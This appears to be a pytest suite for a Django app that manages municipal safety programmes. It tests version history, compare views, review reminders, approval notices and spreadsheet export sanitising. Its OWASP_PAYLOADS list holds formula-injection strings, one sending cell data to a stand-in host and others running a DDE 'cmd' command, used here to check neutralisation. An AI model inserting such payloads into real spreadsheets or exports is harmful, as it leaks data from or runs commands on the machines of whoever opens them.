"""What the record shows: history in words, compare defaults, review when needed, notices that
resolve themselves, safe exports."""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from followup.models import Cycle, Report
from followup.reminders import Notice as FollowupNotice
from followup.spreadsheets import safe_cell, safe_row
from programmes.models import Programme, ProgrammeVersion, Section
from programmes.revision import Notice as RevisionNotice
from programmes.revision import scan_revisions
from responsibilities.audit import AuditEvent
from responsibilities.models import OrganisationUnit, User
from responsibilities.notifications import Notification
from tests.followup.conftest import answer_everything, demo_report, reopened

pytestmark = pytest.mark.django_db
ALE = {"municipality": "ale", "slug": "trygghet-och-sakerhet"}
KALIX = {"municipality": "kalix", "slug": "sakerhetspolicy"}
S = ProgrammeVersion.Status


def user(name):
    return User.objects.get(username=name)


@pytest.fixture
def chief_client(client, demo):
    client.force_login(user("ale-sakerhetschef"))
    return client


def adopt_new_version(chief):
    programme = Programme.objects.get(municipality__slug="ale", slug=ALE["slug"])
    draft = programme.start_revision(by=chief)
    draft.adopt(
        by=chief,
        adopting_body=OrganisationUnit.objects.get(municipality__slug="ale", kind="council"),
        decision_date=datetime.date(2026, 10, 1),
        paragraph="§ 187",
        revision_due=datetime.date(2030, 12, 31),
    )
    return draft


def test_history_reads_as_a_clerk_writes_it(chief_client):
    chief = user("ale-sakerhetschef")
    programme = Programme.objects.get(municipality__slug="ale", slug=ALE["slug"])
    draft = programme.start_revision(by=chief)
    item = draft.sections.get(kind=Section.Kind.PURPOSES).items.order_by("position").first()
    chief_client.post(
        reverse("programmes:edit_item", kwargs={**ALE, "pk": item.pk}),
        {"text": "Helt ny lydelse", "revision": 0},
    )
    page = chief_client.get(reverse("programmes:history", kwargs=ALE)).content.decode()
    assert "Listpunkten ändrades" in page
    # The copy that started the revision is one entry, not one per copied part.
    assert page.count("Versionen påbörjades med texten från den tidigare versionen") == 1
    assert page.count("Listpunkten lades till") == 0
    assert "Version ändrat" not in page and "Listpunkt tillagt" not in page
    draft.adopt(
        by=chief,
        adopting_body=OrganisationUnit.objects.get(municipality__slug="ale", kind="council"),
        decision_date=datetime.date(2026, 10, 1),
        paragraph="187",
    )
    page = chief_client.get(reverse("programmes:history", kwargs=ALE)).content.decode()
    assert "Kommunfullmäktige" in page and "Antagen" in page and "§ 187" in page
    assert "draft→adopted" not in page


def test_history_filters_by_who_and_when(chief_client):
    chief = user("ale-sakerhetschef")
    chief_client.post(reverse("programmes:start_revision", kwargs=ALE))
    url = reverse("programmes:history", kwargs=ALE)
    everyone = chief_client.get(url).context["saves"]
    assert everyone
    mine = chief_client.get(url, {"vem": "ale-sakerhetschef"}).context["saves"]
    assert mine and all(save.who == chief for save in mine)
    assert chief_client.get(url, {"till": "2000-01-01"}).context["saves"] == []


def test_compare_defaults_to_the_adopted_version_against_the_one_it_superseded(chief_client):
    adopted = adopt_new_version(user("ale-sakerhetschef"))
    response = chief_client.get(reverse("programmes:compare", kwargs=ALE))
    assert (response.context["old"].number, response.context["new"].number) == (1, adopted.number)
    assert "från version 1 (Ersatt) till version 2 (Antagen)" in response.content.decode()


def test_compare_defaults_to_the_draft_against_the_adopted_version(chief_client):
    Programme.objects.get(municipality__slug="ale", slug=ALE["slug"]).start_revision(
        by=user("ale-sakerhetschef")
    )
    response = chief_client.get(reverse("programmes:compare", kwargs=ALE))
    assert (response.context["old"].status, response.context["new"].status) == (S.ADOPTED, S.DRAFT)


def test_a_revision_notice_resolves_when_the_new_version_is_adopted(chief_client):
    old = ProgrammeVersion.objects.get(programme__slug=ALE["slug"], status=S.ADOPTED)
    scan_revisions(today=datetime.date(2026, 12, 1))
    notice = Notification.objects.get(
        recipient__username="ale-sakerhetschef", subject=f"version:{old.pk}"
    )
    assert notice.kind == RevisionNotice.REVISION_OVERDUE
    assert chief_client.get("/konto/notiser/").context["unread_notifications"]() >= 1
    adopt_new_version(user("ale-sakerhetschef"))
    notice.refresh_from_db()
    assert notice.resolved_at is not None  # kept, marked resolved
    page = chief_client.get("/konto/notiser/")
    assert page.context["unread_notifications"]() == 0
    assert "Åtgärdad" in page.content.decode()


def test_submitted_notices_resolve_on_approval_and_the_unit_is_told(
    demo, django_capture_on_commit_callbacks
):
    chief = user("ale-sakerhetschef")
    report = demo_report("Sektor utbildning")
    answer_everything(report)
    with django_capture_on_commit_callbacks(execute=True):
        report.submit(by=user("ale-sektorchef"))
    submitted = Notification.objects.filter(kind=FollowupNotice.REPORT_SUBMITTED)
    assert submitted.filter(resolved_at=None).exists()
    report.approve(by=chief, comment="Tack, godkänd.")
    assert not submitted.filter(resolved_at=None).exists()
    told = Notification.objects.get(
        recipient__username="ale-sektorchef", kind=FollowupNotice.REPORT_APPROVED
    )
    assert "Tack, godkänd." in told.text


def test_the_approval_comment_is_shown_to_the_unit_and_printed(client, demo):
    report = demo_report("Sektor utbildning")
    answer_everything(report)
    report.submit(by=user("ale-sektorchef"))
    report.approve(by=user("ale-sakerhetschef"), comment="Tack, godkänd.")
    client.force_login(user("ale-sektorchef"))
    page = client.get(
        reverse("followup:report", kwargs={"municipality": "ale", "pk": report.pk})
    ).content.decode()
    assert "Godkänd av säkerhetschefen" in page and "Tack, godkänd." in page
    from followup import reports

    document = reports.unit_document(Report.objects.with_contents().get(pk=report.pk))
    html = reports.unit_html(document, language="sv")
    assert "Tack, godkänd." in html


def test_kalix_policy_shows_when_it_is_next_up_for_review(client, demo):
    policy = ProgrammeVersion.objects.get(programme__slug=KALIX["slug"], status=S.ADOPTED)
    assert policy.revision_due is None
    assert policy.review_due == datetime.date(2011, 9, 17)
    page = client.get(reverse("programmes:public_detail", kwargs=KALIX)).content.decode()
    assert "Nästa översyn" in page and "2011-09-17" in page
    assert "revideras vid behov" in page


def test_a_review_is_reminded_and_confirming_it_restarts_the_interval(client, demo):
    policy = ProgrammeVersion.objects.get(programme__slug=KALIX["slug"], status=S.ADOPTED)
    scan_revisions(today=datetime.date(2026, 12, 1))
    reminder = Notification.objects.get(
        recipient__username="kalix-sakerhetschef", subject=f"version:{policy.pk}"
    )
    assert (
        "revideras vid behov" in reminder.message["text"]
        or "revised when needed" in (reminder.message["text"])
    )
    client.force_login(user("kalix-sakerhetschef"))
    with time_machine.travel(datetime.datetime(2026, 12, 1, 12), tick=False):
        client.post(reverse("programmes:confirm_review", kwargs=KALIX), {"comment": "Aktuell"})
    policy.refresh_from_db()
    assert policy.review_due == datetime.date(2030, 12, 1)
    reminder.refresh_from_db()
    assert reminder.resolved_at is not None
    event = AuditEvent.objects.get(action=AuditEvent.Action.REVIEW_CONFIRMED)
    assert event.actor.username == "kalix-sakerhetschef" and event.detail["comment"] == "Aktuell"
    # Others may not confirm.
    client.force_login(user("ale-sakerhetschef"))
    assert client.post(reverse("programmes:confirm_review", kwargs=KALIX)).status_code == 404


OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_is_neutralised(payload):
    assert safe_cell(payload).startswith("'")
    assert safe_cell(payload)[1:] == payload


def test_plain_values_are_kept():
    assert [safe_cell(v) for v in ("Klart.", "", None, 12, "12")] == ["Klart.", "", "", 12, "12"]


def test_a_row_is_made_safe_as_each_of_its_cells():
    # safe_row() skips the call for text that cannot start a formula: the same cells.
    row = [*OWASP_PAYLOADS, "  =1+1", "\x00=1+1", "\x00Klart", " Klart", "Klart.", "", None, 12]
    assert safe_row(row) == [safe_cell(value) for value in row]
    assert safe_row(["  =1+1", "\x00=1+1"]) == ["'  =1+1", "'=1+1"]


def test_exports_write_an_injected_answer_as_text(chief_client):
    report = demo_report("Sektor samhällsbyggnad")
    answer = report.answers.exclude(text="").first()
    answer.text = OWASP_PAYLOADS[0]
    with reopened(report.pk):  # a submitted report's answers are frozen by the database
        answer.save()
    cycle = Cycle.objects.get(pk=report.cycle_id)
    kwargs = {"municipality": "ale", "pk": cycle.pk}
    body = chief_client.get(reverse("followup:export", kwargs={**kwargs, "fmt": "csv"}))
    cells = [
        cell
        for row in csv.reader(io.StringIO(body.content.decode()), delimiter=";")
        for cell in row
    ]
    assert "'" + OWASP_PAYLOADS[0] in cells and OWASP_PAYLOADS[0] not in cells
    workbook = load_workbook(
        io.BytesIO(
            chief_client.get(reverse("followup:export", kwargs={**kwargs, "fmt": "xlsx"})).content
        )
    )
    values = [c for row in workbook["Svar"].iter_rows(values_only=True) for c in row]
    assert "'" + OWASP_PAYLOADS[0] in values
    assert all(cell.data_type != "f" for row in workbook["Svar"].iter_rows() for cell in row)
